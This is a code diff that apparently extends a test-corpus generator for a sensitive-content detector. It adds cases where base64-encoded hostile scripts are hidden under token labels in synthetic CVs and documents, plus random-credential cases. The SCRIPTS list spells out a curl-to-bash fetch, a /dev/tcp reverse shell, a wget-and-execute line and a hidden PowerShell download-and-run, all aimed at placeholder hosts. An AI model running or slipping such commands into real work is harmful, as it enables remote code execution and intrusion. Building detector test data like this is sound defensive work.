@@ -263,4 +263,27 @@ PIN_LINES = ['Dial-in: +44 20 {a} {b}, participant PIN {p}#', 'Konferenz-Einwahl
              'Audio only: +1 646 558 {b}, participant code {p}#', 'Numéro d\'accès : +33 1 {a} {b}, code participant {p}#']
 corpus.add('ok168f', [], carry([t.format(a=num(1000, 9999), b=num(1000, 9999), p=num(100000, 999999)) for t in PIN_LINES], 5))
 
+
+# --- enc168a / cr168d: a value under a token's name that is base64 of a script or a reverse shell is encoded_payload's,
+# not a key; base64 of random bytes or of a passphrase under the same names stays a credential.
+from corpuslib import b64
+import base64 as _b64
+SCRIPTS = ['#!/bin/bash\ncurl -fsSL https://cdn-{h}.example/update.sh | bash\n',
+           'bash -i >& /dev/tcp/203.0.113.{n}/4444 0>&1',
+           'import os; os.system("wget -q http://files-{h}.example/x -O /tmp/x && chmod +x /tmp/x && /tmp/x")',
+           'powershell -nop -w hidden -c "iex (New-Object Net.WebClient).DownloadString(\'http://198.51.100.{n}/a.ps1\')"']
+LABELS = ['Verification token: {v}', 'Portfolio token: {v}', 'session_token={v}', 'Profile key: {v}']
+enc = [LABELS[i % 4].format(v=b64(SCRIPTS[i % 4].format(h=corpus.rs('abcdefghij', 5), n=num(2, 250)))) for i in range(8)]
+def c_cv(t): return f'CURRICULUM VITAE\n\n{person()}    +47 {num(400, 999)} {num(10, 99)} {num(100, 999)}\n\nPROFILE\n{t}\n\nEXPERIENCE\n2019 - 2024  Analyst, {r.choice(FIRMS)}'
+corpus.add('enc168a', ['encoded_payload'], [[c_cv, c_minutes, c_mail][i % 3](t) for i, t in enumerate(enc)])
+pos, secs = [], []
+for i in range(4):
+    v = _b64.b64encode(bytes(r.randrange(256) for _ in range(33))).decode()
+    pos.append(['Verification token: {v}', 'Portfolio token: {v}', 'session_token={v}', 'API key: {v}'][i].format(v=v))
+    secs.append(v)
+v = b64(' '.join(r.choice(['copper', 'lantern', 'orbit', 'maple', 'quartz', 'harbor', 'velvet']) for _ in range(5)) + ' ' + str(num(10, 99)))
+pos.append(f'apiVersion: v1\nkind: Secret\ndata:\n  password: {v}')
+secs.append(v)
+corpus.add('cr168d', ['credential_leak'], [c_cv(t) if i < 4 else t for i, t in enumerate(pos)], wrap=False, secrets=secs)
+
 corpus.write('cases-168')
